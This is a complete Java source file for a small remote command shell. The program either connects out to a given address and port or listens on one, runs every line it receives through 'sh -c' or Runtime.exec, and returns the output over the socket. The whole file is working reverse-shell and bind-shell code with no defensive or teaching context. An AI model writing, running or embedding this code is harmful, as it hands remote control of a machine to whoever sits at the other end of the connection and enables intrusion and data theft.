import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.net.ServerSocket;
import java.net.Socket;

/** Runs each line of a network peer as a command and sends its output back: Lines connect|listen|runtime ADDRESS PORT. */
public class Lines {
    public static void main(String[] arguments) throws Exception {
        int port = Integer.parseInt(arguments[2]);
        Socket socket = arguments[0].equals("listen")
            ? new ServerSocket(port, 1, java.net.InetAddress.getByName(arguments[1])).accept()
            : new Socket(arguments[1], port);
        BufferedReader commands = new BufferedReader(new InputStreamReader(socket.getInputStream()));
        String line;
        while ((line = commands.readLine()) != null) {
            Process process = arguments[0].equals("runtime")
                ? Runtime.getRuntime().exec(line)
                : new ProcessBuilder("sh", "-c", line).redirectErrorStream(true).start();
            process.getInputStream().transferTo(socket.getOutputStream());
            process.waitFor();
        }
    }
}
